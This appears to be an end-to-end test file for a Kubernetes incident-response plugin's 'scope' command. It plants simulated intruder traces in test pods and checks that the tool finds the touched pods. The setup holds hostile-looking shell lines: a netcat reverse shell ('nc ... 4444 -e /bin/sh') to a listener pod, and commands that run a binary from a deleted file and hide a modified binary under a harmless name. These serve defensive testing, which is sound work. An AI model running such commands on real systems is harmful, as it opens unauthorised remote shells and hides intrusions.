import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import { image, imageOf } from '../support/offer.ts';
import { requires } from '../support/requires.ts';
import { ours } from './support/traces.ts';
import {
  apply,
  connectedTo,
  createNamespace,
  listensOn,
  pod,
  type PodParts,
  readyWhen,
  removeNamespaces,
  until,
  untilReady,
} from './support/workload.ts';
import { kubectl, kubectlIr, nodeNames } from './support/world.ts';

const namespace = 'e2e-scope';
/** A node that the API server knows and nobody reaches: it has no kubelet. */
const unreachable = 'e2e-scope-unreachable';

/** A program of the intruder: nothing in the image has its content. */
const make = 'cp /bin/busybox /tmp/busybox-x; echo intruder >> /tmp/busybox-x;';
const still = 'while :; do sleep 3600; done';
/** A shell line that succeeds where a process runs from a file. */
const runsFrom = (path: string): string => `ls -l /proc/[0-9]*/exe 2>/dev/null | grep -q ' -> ${path}$'`;

interface Scope {
  readonly items: readonly {
    readonly subject: { readonly pod?: string; readonly namespace?: string };
    readonly indicator: { readonly type: string };
    readonly confidence: string;
  }[];
  readonly nodes: readonly string[];
  readonly notLooked: readonly { readonly what: string; readonly reason: string }[];
}

const nodes = await nodeNames();
const [first = '', second = first] = nodes;

describe('kubectl ir scope', function () {
  requires(this, image('collector'), image('toolbox'));
  this.timeout(240_000);
  let dir: string;
  let place: string;
  let earlier: readonly string[];
  const flags = ['--collector-image', imageOf('collector')];

  before(async () => {
    earlier = await ours();
    dir = await mkdtemp(join(tmpdir(), 'e2e-scope-'));
    place = join(dir, 'case');
    await createNamespace(namespace);
    const run = (command: string): { image: string; command: string[] } => ({
      image: imageOf('toolbox'),
      command: ['sh', '-c', command],
    });
    const listening = { ...run('nc -ll -p 4444 -e sleep 3600'), container: readyWhen(listensOn(4444)) };
    await apply(namespace, [pod('listener', { ...listening, node: second })]);
    await untilReady(namespace);
    const listener = await kubectl([
      'get',
      'pod',
      'listener',
      '-n',
      namespace,
      '-o',
      'jsonpath={.status.podIP}',
    ]);
    // The suspect: a program whose file is gone, another that lies there, and a shell that is open to the listener.
    const suspect = `${make} cp /tmp/busybox-x /tmp/busybox-left; chmod +x /tmp/busybox-left; /tmp/busybox-x sleep 3600 & ${until(runsFrom('/tmp/busybox-x'))}; rm /tmp/busybox-x; nc ${listener} 4444 -e /bin/sh & ${still}`;
    /** What each does, and when that is done. */
    const traces: Readonly<Record<string, readonly [command: string, done: string]>> = {
      'pod-02': [`sleep 3600 | nc ${listener} 4444 & ${still}`, connectedTo(4444)],
      'pod-05': [
        `${make} mkdir -p /opt; mv /tmp/busybox-x /opt/busybox-y; /opt/busybox-y sleep 3600 & ${still}`,
        runsFrom('/opt/busybox-y'),
      ],
      'pod-12': [
        `${make} chmod -x /tmp/busybox-x; mkdir -p /var/tmp; mv /tmp/busybox-x /var/tmp/notes; ${still}`,
        '[ -e /var/tmp/notes ]',
      ],
    };
    const traced = (name: string): PodParts => {
      const [command, done] = traces[name] ?? [still];
      return { ...run(command), ...(done === undefined ? {} : { container: readyWhen(done) }) };
    };
    const names = Array.from({ length: 12 }, (_, index) => `pod-${String(index + 1).padStart(2, '0')}`);
    await apply(namespace, [
      pod('suspect', {
        ...run(suspect),
        node: first,
        container: readyWhen(`[ ! -e /tmp/busybox-x ] && ${connectedTo(4444)}`),
      }),
      ...names.map((name, index) => pod(name, { ...traced(name), node: index % 2 === 0 ? first : second })),
    ]);
    await untilReady(namespace);
    await kubectl(
      ['create', '-f', '-'],
      JSON.stringify({
        apiVersion: 'v1',
        kind: 'Node',
        metadata: { name: unreachable, labels: { 'kubernetes.io/os': 'linux' } },
      }),
    );
    for (const words of [
      ['snapshot', 'node', first],
      ['diff', 'pod', 'suspect', '-n', namespace, '--content'],
    ]) {
      const { code, stderr } = await kubectlIr([...words, '--case', place, ...flags]);
      expect([0, 1], stderr).to.include(code);
    }
  });
  after(async () => {
    await kubectl(['delete', 'node', unreachable, '--ignore-not-found']);
    await removeNamespaces(namespace);
    await rm(dir, { recursive: true, force: true });
  });

  it('names the three pods of twelve that the intruder touched, each by another trace, and the node that nobody reaches', async () => {
    const found = join(dir, 'found');
    const { code, stdout, stderr } = await kubectlIr([
      'scope',
      place,
      '--case',
      found,
      '-o',
      'json',
      ...flags,
    ]);
    const scope = JSON.parse(stdout) as Scope;
    const pods = [...new Set(scope.items.map(({ subject }) => subject.pod))].sort();
    expect(pods, stdout + stderr).to.deep.equal(['pod-02', 'pod-05', 'pod-12']);
    const by = (name: string): string[] =>
      scope.items
        .filter(({ subject }) => subject.pod === name)
        .map(({ indicator, confidence }) => `${indicator.type} ${confidence}`);
    expect(by('pod-02')).to.deep.equal(['address high']);
    expect(by('pod-05')).to.include('sha256 high');
    expect(by('pod-12')).to.deep.equal(['sha256 high']);
    expect(scope.nodes).to.have.members([...new Set([first, second])]);
    expect(scope.notLooked).to.have.length(1);
    expect(scope.notLooked[0]?.what).to.equal(`node/${unreachable}`);
    expect(scope.notLooked[0]?.reason).to.contain('NotReady');
    expect(code, stderr).to.equal(3);
    // What other tests left ends meanwhile, and is swept.
    expect((await ours()).filter((name) => !earlier.includes(name))).to.deep.equal([]);
    const verified = await kubectlIr(['verify', found]);
    expect(verified.stdout).to.match(/^UNSEALED/);
  });

  it('finds the same in what was collected, without the cluster, and by a list', async () => {
    const found = join(dir, 'found');
    const offline = await kubectlIr(['scope', place, '--in', found, '-o', 'name'], {
      KUBECONFIG: '/nonexistent',
    });
    expect(offline.stdout).to.equal(
      ['pod-02', 'pod-05', 'pod-12'].map((name) => `pod/${namespace}/${name}\n`).join(''),
    );
    expect(offline.code, offline.stderr).to.equal(0);
    const { indicators } = JSON.parse(
      (await kubectlIr(['scope', place, '--in', found, '-o', 'json'])).stdout,
    ) as { indicators: { type: string; value: string }[] };
    const list = join(dir, 'list.csv');
    await writeFile(
      list,
      `type,value\n${indicators.map(({ type, value }) => `${type},${value}`).join('\n')}\n`,
    );
    expect((await readFile(list, 'utf8')).split('\n').length).to.be.greaterThan(3);
    const listed = await kubectlIr(['scope', '--ioc', list, '--in', found, '-o', 'name']);
    expect(listed.stdout)
      .to.contain(`pod/${namespace}/suspect\n`)
      .and.to.contain(`pod/${namespace}/pod-12\n`);
  });
});
